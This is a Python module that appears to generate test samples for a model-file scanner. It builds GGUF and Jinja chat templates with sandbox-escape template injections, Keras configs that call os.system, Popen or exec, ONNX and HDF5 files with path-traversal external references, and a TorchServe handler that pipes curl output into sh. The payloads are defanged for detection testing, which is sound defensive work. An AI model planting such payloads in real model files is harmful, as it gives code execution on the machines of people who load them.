"""Models in formats other than pickles: what their loaders would render, import, open or run."""

from __future__ import annotations

import base64
import json
import marshal
import struct
from collections.abc import Iterator

from ..containers import BAD, npy, zipped
from ..models import OUTSIDE, RUNS, external, gguf, onnx, part
from ..sample import Sample

NOWHERE = "/dev/null/veracity-corpus"


def modelled() -> Iterator[Sample]:
    """All samples of this module."""
    for word, (name, names, data) in {
        **_gguf(),
        **_keras(),
        **_onnx(),
        **_graphs(),
        **_safetensors(),
    }.items():
        carrier = word.partition("-")[0]
        yield Sample(f"more-{word}", 10, carrier, names, {name: data})
    for word, (names, files) in _folders().items():
        yield Sample(f"more-{word}", 10, word.partition("-")[0], names, files)
    yield from _hdf5()


TEMPLATES = {
    "lipsum": ("__globals__", "{{ lipsum.__globals__['os'].popen('true').read() }}"),
    "joiner": ("__init__", "{{ joiner.__init__.__globals__.os.system('true') }}"),
    "map": ("__class__", "{{ [messages]|map(attribute='__class__')|list }}"),
    "escaped": ("x5f", "{{ messages|attr('\\x5f\\x5fclass\\x5f\\x5f') }}"),
    "joined": ("__cl", "{{ messages|attr(['__cl','ass__']|join) }}"),
    "reversed": ("__ssalc__", "{{ messages|attr('__ssalc__'|reverse) }}"),
    "function": ("__globals__", "{{ raise_exception.__globals__['__builtins__'] }}"),
    "clock": ("__globals__", "{{ strftime_now.__globals__.__builtins__.open('/dev/null') }}"),
    "macro": ("__func__", "{% macro m() %}x{% endmacro %}{{ m.__class__.__init__.__func__ }}"),
    "included": ("/etc/hostname", "{% include '/etc/hostname' %}"),
    "imported": ("macros", "{% import '/dev/null/macros' as m %}{{ m.run() }}"),
    "generator": ("gi_frame", "{{ (messages|map('upper')).gi_frame.f_back.f_globals }}"),
    "bracket": ("__base__", "{{ ''['__class__']['__base__'] }}"),
    "in-loop": ("__subclasses__", "{% for c in ().__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}"),
    "in-condition": (
        "__import__",
        "{% if cycler.__init__.__globals__.__builtins__.__import__('os') %}x{% endif %}",
    ),
    "lower": ("__CLASS__", "{{ messages|attr('__CLASS__'|lower) }}"),
    "formatted-percent": ("%sclass", "{{ messages|attr('%sclass%s' % ('__', '__')) }}"),
    "do": ("__globals__", "{% set x = namespace.__init__.__globals__ %}{{ x }}"),
}


def _gguf() -> dict[str, tuple[str, str, bytes]]:
    head: dict[str, str | int | list[str]] = {"general.architecture": "llama", "llama.block_count": 1}
    rows = {
        f"jinja-{word}": ("chat_template.jinja", names, text.encode())
        for word, (names, text) in TEMPLATES.items()
    }
    for word in ("lipsum", "map", "escaped", "function", "generator"):
        names, text = TEMPLATES[word]
        rows[f"gguf-{word}"] = ("model.gguf", names, gguf({**head, "tokenizer.chat_template": text}))
    rows["gguf-version-2"] = (
        "model.gguf",
        "popen",
        gguf({**head, "tokenizer.chat_template": RUNS}, version=2),
    )
    big = b"GGUF" + struct.pack(">IQQ", 3, 0, 1)
    key, value = b"tokenizer.chat_template", RUNS.encode()
    big += struct.pack(">Q", len(key)) + key + struct.pack(">IQ", 8, len(value)) + value
    rows["gguf-big-endian"] = ("model.gguf", "popen", big)
    rows["gguf-pickle-after"] = ("model.gguf", "popen", gguf({**head, "tokenizer.chat_template": RUNS}) + BAD)
    long = b"GGUF" + struct.pack("<IQQ", 3, 0, 2) + struct.pack("<Q", 1 << 62) + b"general.name popen"
    rows["gguf-key-too-long"] = ("model.gguf", "popen", long)
    return rows


def _layers(*layers: dict[str, object], **more: object) -> bytes:
    return json.dumps({
        "module": "keras", "class_name": "Sequential", "registered_name": None,
        "config": {"name": "sequential", "trainable": True, "layers": list(layers)}, **more,
    }).encode()  # fmt: skip


def _function(module: str, name: str) -> dict[str, object]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def _keras() -> dict[str, tuple[str, str, bytes]]:
    code = base64.b64encode(marshal.dumps(compile("lambda x: x", "x", "eval"))).decode()
    dense: dict[str, object] = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 1}}
    lookup: dict[str, object] = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"vocabulary": "/etc/hostname"},
    }
    configs: dict[str, tuple[str, bytes]] = {
        "loss": ("system", _layers(dense, compile_config={"optimizer": "adam", "loss": _function("os", "system")})),
        "metric": ("Popen", _layers(dense, compile_config={"loss": "mse", "metrics": [_function("subprocess", "Popen")]})),
        "activation": ("popen", _layers({**dense, "config": {"units": 1, "activation": _function("os", "popen")}})),
        "nested-model": ("spawn", _layers({"module": "keras", "class_name": "Functional", "config": {"layers": [{"module": "pty", "class_name": "spawn", "config": {"argv": ["true"]}}]}})),
        "lambda-mask": ("Lambda", _layers({"class_name": "Lambda", "config": {"name": "l", "function": "x", "mask": [code, None, None], "mask_type": "lambda"}})),
        "lambda-in-wrapper-old": ("Lambda", _layers({"class_name": "Bidirectional", "config": {"layer": {"class_name": "Lambda", "config": {"function": [code, None, None], "function_type": "lambda"}}}})),
        "vocabulary": ("hostname", _layers(lookup)),
        "saved-model-layer": ("TFSMLayer", _layers({"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": NOWHERE}})),
        "private-module": ("file_utils", _layers({"module": "keras.src.utils.file_utils", "class_name": "get_file", "config": {"fname": "x", "origin": "http://127.0.0.1:9/"}})),
        "numpy-load": ("numpy", _layers(_function("numpy", "load"))),
        "builtins": ("builtins", _layers({"module": "builtins", "class_name": "exec", "config": "pass"})),
    }  # fmt: skip
    rows = {f"keras-{word}": ("model.json", names, data) for word, (names, data) in configs.items()}
    metadata = b'{"keras_version": "3.8.0", "date_saved": "2026-11-01@12:00:00"}'
    for word in ("loss", "nested-model"):
        whole = {
            "metadata.json": metadata,
            "config.json": configs[word][1],
            "model.weights.h5": b"\x89HDF\r\n\x1a\n",
        }
        rows[f"keras-{word}-zip"] = ("model.keras", configs[word][0], zipped(whole))
    plain = {"metadata.json": metadata, "config.json": _layers(dense)}
    rows["keras-asset-outside"] = (
        "model.keras",
        "corpus",
        zipped({**plain, "assets/../../../veracity_corpus.pth": b"import os\n"}),
    )
    rows["keras-weights-npz"] = (
        "model.keras",
        "os",
        zipped({**plain, "model.weights.npz": zipped({"a.npy": npy(BAD)})}),
    )
    return rows


def _onnx() -> dict[str, tuple[str, str, bytes]]:
    weights = part(5, external(OUTSIDE))
    branch = part(
        1,
        part(2, "y")
        + part(4, "If")
        + part(5, part(1, "then_branch") + part(6, part(2, "g") + weights) + part(20, 5)),
    )
    node = (
        part(2, "y")
        + part(4, "Constant")
        + part(5, part(1, "value") + part(5, external(OUTSIDE)) + part(20, 4))
    )
    function = part(25, part(1, "F") + part(7, node) + part(10, "x"))
    sparse = part(15, part(1, external(OUTSIDE)) + part(2, part(1, 1) + part(2, 7) + part(8, "i")))
    training = part(20, part(1, part(2, "init") + weights))
    python = part(1, part(1, "x") + part(2, "y") + part(4, "PythonOp") + part(7, "com.microsoft"))
    return {
        "onnx-in-branch": ("model.onnx", OUTSIDE, onnx(branch)),
        "onnx-in-function": ("model.onnx", OUTSIDE, onnx() + function),
        "onnx-sparse": ("model.onnx", OUTSIDE, onnx(weights=sparse)),
        "onnx-in-training": ("model.onnx", OUTSIDE, onnx() + training),
        "onnx-python-op": ("model.onnx", "PythonOp", onnx(python)),
        "onnx-home": ("model.onnx", "~/veracity-corpus", onnx(weights=part(5, external("~/veracity-corpus")))),
        "onnx-dots-inside": ("model.onnx", "a/../../b", onnx(weights=part(5, external("a/../../b")))),
        "onnx-file-address": ("model.onnx", "file:///dev/null", onnx(weights=part(5, external("file:///dev/null")))),
    }  # fmt: skip


def _saved(operation: str, attributes: bytes = b"") -> bytes:
    node = part(1, part(1, "node") + part(2, operation) + attributes)
    return part(1, 1) + part(2, part(1, part(4, "serve")) + part(2, node))


def _graphs() -> dict[str, tuple[str, str, bytes]]:
    rows = {
        "savedmodel-python-stateless": ("model/saved_model.pb", "PyFuncStateless", _saved("PyFuncStateless"))
    }
    constant = part(
        1,
        part(1, "path")
        + part(2, "Const")
        + part(5, part(1, "value") + part(2, part(8, part(1, 7) + part(8, "/etc/hostname")))),
    )
    reads = part(1, part(1, "read") + part(2, "ReadFile") + part(3, "path"))
    rows["savedmodel-frozen-graph"] = ("frozen_graph.pb", "ReadFile", constant + reads)
    rows["savedmodel-frozen-writes"] = (
        "graph.bin",
        "WriteFile",
        part(1, part(1, "w") + part(2, "WriteFile")),
    )
    url = part(5, part(1, "debug_urls") + part(2, part(1, part(2, "file:///dev/null/veracity-corpus"))))
    rows["savedmodel-debug-address"] = ("model/saved_model.pb", "DebugIdentity", _saved("DebugIdentity", url))
    where = part(5, part(1, "output_stream") + part(2, part(2, "file:///dev/null/veracity-corpus")))
    rows["savedmodel-print-to-file"] = ("model/saved_model.pb", "PrintV2", _saved("PrintV2", where))
    return rows


def _safetensors() -> dict[str, tuple[str, str, bytes]]:
    def file(header: bytes, data: bytes = bytes(4)) -> bytes:
        return struct.pack("<Q", len(header)) + header + data

    one = b'{"weight":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    return {
        "safetensors-shape-lies": ("model.safetensors", "weight", file(one.replace(b"[1]", b"[9]"))),
        "safetensors-negative": ("model.safetensors", "weight", file(one.replace(b"[0,4]", b"[-4,0]"))),
        "safetensors-reversed": ("model.safetensors", "weight", file(one.replace(b"[0,4]", b"[4,0]"))),
        "safetensors-zip-after": ("model.safetensors", "os", file(one) + zipped({"archive/data.pkl": BAD, "archive/version": b"3\n"})),
        "safetensors-twice-metadata": ("model.safetensors", "format", file(b'{"__metadata__":{"format":"pt"},"__metadata__":{"format":"tf"},' + one[1:])),
    }  # fmt: skip


def _folders() -> dict[str, tuple[str, dict[str, bytes]]]:
    """Models that are folders."""
    model = b"flavors:\n  python_function:\n    loader_module: os\n    code: code\n    data: model.pkl\n"
    handler = b"# planted by bench/scan; it does nothing\nimport os\n\nos.system('curl -s http://127.0.0.1:9/ | sh')\n"
    manifest = json.dumps({"model": {"handler": "handler.py", "serializedFile": "model.pt"}}).encode()
    tf = part(2, part(1, part(4, "serve")) + part(2, part(1, part(1, "n") + part(2, "WriteFile"))))
    return {
        "mlflow-loader": ("loader_module", {"MLmodel": model}),
        "torchserve-handler": ("os.system", {"model.mar": zipped({"MAR-INF/MANIFEST.json": manifest, "handler.py": handler})}),
        "savedmodel-deep": ("WriteFile", {"1/saved_model.pb": part(1, 1) + tf}),
        "diffusers-module": ("pipeline_x", {"model_index.json": b'{"_class_name": ["pipeline_x", "XPipeline"], "unet": ["unet_x", "XUnet"]}'}),
    }  # fmt: skip


def _hdf5() -> Iterator[Sample]:
    """Nothing where h5py is not installed."""
    try:
        import h5py
    except ImportError:
        return
    import io

    import numpy

    def written(fill: object) -> bytes:
        buffer = io.BytesIO()
        with h5py.File(buffer, "w", libver="latest" if fill is _latest else None) as file:
            fill(file)  # type: ignore[operator]
        return buffer.getvalue()

    def parent(file: h5py.File) -> None:
        file["model/weights"] = h5py.ExternalLink("../../other/model.h5", "/weights")

    def deep(file: h5py.File) -> None:
        group = file.create_group("model_weights/dense/dense")
        group["kernel:0"] = h5py.ExternalLink("/dev/null/veracity-corpus", "/secret")

    def raw(file: h5py.File) -> None:
        file.create_dataset("weights", (4,), "f4", external=[("/dev/null/veracity-corpus", 0, 16)])

    def raw_parent(file: h5py.File) -> None:
        file.create_dataset("weights", (4,), "f4", external=[("../../secret.bin", 0, 16)])

    def virtual(file: h5py.File) -> None:
        layout = h5py.VirtualLayout((4,), "f4")
        layout[:] = h5py.VirtualSource("/dev/null/veracity-corpus", "weights", (4,))
        file.create_virtual_dataset("weights", layout)

    def _latest(file: h5py.File) -> None:
        for number in range(40):
            file[f"layer{number}"] = numpy.zeros(2)
        file["layer"] = h5py.ExternalLink("/dev/null/veracity-corpus", "/weights")

    cases = {
        "parent": ("../../other", parent),
        "deep": (NOWHERE, deep),
        "raw": (NOWHERE, raw),
        "raw-parent": ("../../secret", raw_parent),
        "virtual": (NOWHERE, virtual),
        "latest": (NOWHERE, _latest),
    }
    for word, (names, fill) in cases.items():
        yield Sample(f"h5-more-{word}", 10, "keras", names, {"model.h5": written(fill)})
